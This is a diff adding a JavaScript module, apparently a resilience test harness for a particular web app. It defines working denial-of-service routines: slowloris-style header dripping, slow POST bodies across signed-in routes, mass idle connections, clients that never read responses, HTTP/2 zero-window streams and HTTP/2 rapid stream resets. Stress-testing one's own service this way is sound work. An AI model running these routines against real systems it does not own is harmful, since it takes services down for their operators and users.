@@ -1,0 +1,63 @@
+// Connections that cost their owner nothing: idle, slow, and those that never read.
+import { connect as connectHttp2 } from 'node:http2';
+import { count, pause, raw, repeat } from './wire.mjs';
+
+const head = (target, method, path, more = '') => `${method} ${path} HTTP/1.1\r\nHost: ${target.host}:${target.port}\r\nSec-Fetch-Site: same-origin\r\n${more}\r\n`;
+
+/** Opens `many` connections over the time and holds them. */
+async function hold(target, seconds, many, text, options) {
+  const sockets = [];
+  for (let number = 0; number < many; number++) {
+    sockets.push(raw(target, text(number), options));
+    if (number % 50 === 49) await pause(5);
+  }
+  const end = Date.now() + seconds * 1000;
+  while (Date.now() < end) {
+    await pause(1500);
+    if (options?.drip) for (const socket of sockets) if (!socket.destroyed) socket.write(options.drip);
+  }
+  for (const socket of sockets) socket.destroy();
+}
+
+const formHead = 'Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n';
+
+export const attacks = {
+  '600 strangers, a byte at a time, to /sign-in': (target, seconds) => hold(target, seconds, 600, () => head(target, 'POST', '/sign-in', formHead), { drip: 't' }),
+  '600 slow bodies on every route, signed in': (target, seconds) => {
+    const paths = ['/requests/new', '/requests/new/import', '/courier/new', '/settings', `/requests/${target.code}/edit`, `/requests/${target.code}/quotation/accept`, `/requests/${target.code}/documents`, '/hooks/forwarding', '/queue/aside', '/', '/nowhere', '/sign-out'];
+    const parts = 'Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 60000\r\n';
+    return hold(target, seconds, 600, number => head(target, 'POST', paths[number % paths.length], `Cookie: ${target.cookie}\r\n${number % 2 ? parts : formHead}`), { drip: '-' });
+  },
+  '10,000 idle connections': (target, seconds) => hold(target, seconds, 10_000, () => ''),
+  '14,000 connections, each after one request': (target, seconds) => hold(target, seconds, 14_000, () => head(target, 'GET', '/healthz')),
+  '3,000 heads, a header at a time': (target, seconds) => hold(target, seconds, 3_000, () => `GET / HTTP/1.1\r\nHost: ${target.host}\r\n`, { drip: 'X-A: b\r\n' }),
+  '300 that ask for pages and never read': (target, seconds) =>
+    hold(target, seconds, 300, () => head(target, 'GET', '/requests', `Cookie: ${target.cookie}\r\n`).repeat(50), { reads: false }),
+  '300 streams of news that nobody reads': (target, seconds) =>
+    hold(target, seconds, 300, () => head(target, 'GET', `/events?code=${target.code}`, `Cookie: ${target.cookie}\r\n`), { reads: false }),
+  'HTTP/2: 20 connections of 100 streams, no window': async (target, seconds) => {
+    const sessions = Array.from({ length: 20 }, () => connectHttp2(target.address, { settings: { initialWindowSize: 0 } }));
+    for (const session of sessions) {
+      session.on('error', error => count(error.code ?? 'error'));
+      for (let stream = 0; stream < 100; stream++) {
+        const asked = session.request({ ':path': stream % 2 ? '/requests' : '/requests/new', cookie: target.cookie });
+        asked.on('response', answer => count(String(answer[':status'])));
+        asked.on('error', error => count(error.code ?? 'error'));
+      }
+    }
+    await pause(seconds * 1000);
+    for (const session of sessions) session.destroy();
+  },
+  'HTTP/2: streams that are reset at once': (target, seconds) =>
+    repeat(seconds, 4, async () => {
+      const session = connectHttp2(target.address);
+      session.on('error', error => count(error.code ?? 'error'));
+      for (let stream = 0; stream < 500; stream++) {
+        const asked = session.request({ ':path': '/requests/new', cookie: target.cookie });
+        asked.on('error', () => {});
+        asked.close(8);
+      }
+      await pause(100);
+      session.destroy();
+    }),
+};
